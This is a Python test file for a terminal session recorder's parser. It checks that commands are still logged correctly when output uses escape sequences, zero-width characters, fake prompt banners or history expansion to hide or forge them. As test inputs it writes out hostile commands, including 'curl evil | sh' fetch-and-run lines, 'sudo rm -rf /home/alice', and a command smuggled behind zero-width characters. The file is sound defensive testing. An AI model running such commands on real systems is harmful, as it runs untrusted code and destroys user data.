"""The parser fails safe (issue 14, findings 3, 4, 5): pure tests on bytes.

The byte strings are what bash 5.2 on Debian 12 writes (the prompt and accept
sequences of tests/test_terminal.py, from captured sessions); the attacks are
the ones the issue reproduced, printed by a command's output. The same attacks
run end to end in tests/test_fail_safe_live.py.
"""

from __future__ import annotations

from parsers.events import Chunk, Direction, LineKind
from parsers.pipeline import CommandPipeline
from parsers.terminal import CommandBuilder

PROMPT = b"\x1b[?2004h\x1b]0;u@h: ~\x07\x1b[01;32mu@h\x1b[00m:\x1b[01;34m~\x1b[00m$ "
ACCEPT = b"\r\n\x1b[?2004l\r"


def out(data: bytes, t: float = 1.0) -> Chunk:
    return Chunk(t, Direction.OUTPUT, data, 0)


def key(data: bytes, t: float = 1.0) -> Chunk:
    return Chunk(t, Direction.INPUT, data, 0)


def typed(command: bytes, output: bytes = b"") -> list[Chunk]:
    """A command typed at bash's prompt, echoed, accepted, and its output."""
    return [out(PROMPT), key(command + b"\r"), out(command + ACCEPT + output)]


def run(events: list[Chunk]) -> list[tuple[str, str]]:
    pipeline = CommandPipeline()
    return [(c.kind.value, c.text) for e in events for c in pipeline.feed(e)]


def commands(events: list[Chunk]) -> list[str]:
    return [text for kind, text in run(events) if kind == "command"]


# -- finding 3: one printed sequence silences the parser ---------------------


def test_the_alternate_screen_left_on_does_not_switch_recording_off() -> None:
    events = (
        typed(b"printf '\\e[?1049h'", b"\x1b[?1049h")
        + typed(b"id")
        + typed(b"curl x | sh")
    )
    assert commands(events) == ["printf '\\e[?1049h'", "id", "curl x | sh"]


def test_an_unterminated_osc_ends_at_the_next_escape_like_xterm() -> None:
    for opener in (b"x\x1b]0", b"x\x1b]0;title", b"x\x1bPdcs", b"x\xc2\x9d0;t"):
        events = typed(b"printf x", opener) + typed(b"id") + typed(b"whoami")
        assert commands(events) == ["printf x", "id", "whoami"], opener


def test_an_endless_csi_parameter_does_not_break_the_emulator() -> None:
    events = typed(b"printf y", b"\x1b[" + b"9" * 5000) + typed(b"id")
    events += [key(b"x"), out(b"\x1b[" + b"1;" * 3000 + b"m"), out(b"\x1b[?4m")]
    assert commands(events)[:2] == ["printf y", "id"]


def test_zero_width_characters_do_not_cut_the_line() -> None:
    for char in "\u200b\u2060\ufeff\u202e":
        line = f"echo hi{char}; curl evil | sh".encode()
        assert commands(typed(line)) == [line.decode()], repr(char)


# -- finding 4: printed text that looks like a prompt and a command ----------


def test_output_that_looks_like_an_accepted_line_is_no_command() -> None:
    motd = b"\x1b[?2004h$ sudo rm -rf /home/alice\r\n\x1b[?2004l\rbanner\r\n"
    events = typed(b"cat motd.txt", motd) + typed(b"ls")
    assert commands(events) == ["cat motd.txt", "ls"]


def test_output_that_looks_like_a_fallback_line_is_no_command() -> None:
    """No markers at all (dash): the banner's fake prompt line is output too."""
    events = [
        out(b"$ "),
        key(b"cat motd.txt\r"),
        out(b"cat motd.txt\r\n$ sudo rm -rf /home/alice\r\n$ "),
        key(b"ls\r"),
        out(b"ls\r\nfile\r\n$ "),
    ]
    assert commands(events) == ["cat motd.txt", "ls"]


def test_a_line_edited_with_other_keys_is_read_off_the_screen() -> None:
    # Tab completion: the keys do not spell the line; the screen does.
    events = [out(PROMPT), key(b"cat /etc/host"), out(b"cat /etc/host")]
    events += [key(b"n\t"), out(b"name "), key(b"\r"), out(ACCEPT)]
    assert commands(events) == ["cat /etc/hostname"]


# -- finding 5: history expansion replaced a command with its output ---------


def test_an_output_line_is_no_history_expansion_of_the_typed_line() -> None:
    line = b"sed -n 1p f;: !x;echo SECRET"
    events = typed(line, b"sed -n 1p f;: innocent\r\nSECRET\r\n") + typed(b"ls")
    assert commands(events) == [line.decode(), "ls"]


def test_a_real_expansion_is_the_command_and_what_was_typed_is_kept() -> None:
    events = typed(b"echo bang") + typed(b"!!", b"echo bang\r\nbang\r\n")
    events += typed(b"ls")
    pipeline = CommandPipeline()
    found = [c for e in events for c in pipeline.feed(e)]
    assert [(c.text, c.typed) for c in found] == [
        ("echo bang", None),
        ("echo bang", "!!"),
        ("ls", None),
    ]


# -- unparsed input ----------------------------------------------------------


def test_keys_that_become_nothing_are_counted_never_kept() -> None:
    builder = CommandBuilder()
    for event in typed(b"cat"):
        builder.feed(event)
    # Keys typed while the program's output never shows them (no prompt, no
    # echo matching them): at the end of the session they are unparsed.
    for event in [key(b"lost keys\r", 2.0), out(b"something else\r\n")]:
        builder.feed(event)
    builder.finish()
    assert builder.unparsed.keys == len("lost keys")
    assert builder.unparsed.first == builder.unparsed.last == 2.0


def test_secrets_and_full_screen_keys_are_not_unparsed() -> None:
    builder = CommandBuilder()
    events = typed(b"sudo -k") + typed(b"sudo id", b"[sudo] password for u: ")
    events += [key(b"hunter2\r"), out(b"\r\nuid=0(root)\r\n")]
    events += typed(b"vi f", b"\x1b[?1049h\x1b[H\x1b[2J~\r\n~")
    events += [key(b"ihello\x1b:wq\r"), out(b"\x1b[?1049l")]
    events += typed(b"ls")
    lines = [line for e in events for line in builder.feed(e)]
    builder.finish()
    assert [line.text for line in lines] == ["sudo -k", "sudo id", "vi f", "ls"]
    assert builder.unparsed.keys == 0
    assert all("hunter2" not in line.text for line in lines)


def test_hidden_keys_at_a_shell_prompt_are_a_count_without_content() -> None:
    """dash after `stty -echo`: the keys run, nothing shows them."""
    events = [
        out(b"$ "),
        key(b"stty -echo\r"),
        out(b"stty -echo\r\n$ "),
        key(b"rm -rf /tmp/x\r"),
        out(b"\r\n$ "),
    ]
    pipeline = CommandPipeline()
    found = [c for e in events for c in pipeline.feed(e)]
    assert [(c.kind, c.text, c.keys) for c in found] == [
        (LineKind.COMMAND, "stty -echo", 0),
        (LineKind.HIDDEN_INPUT, "", len("rm -rf /tmp/x")),
    ]
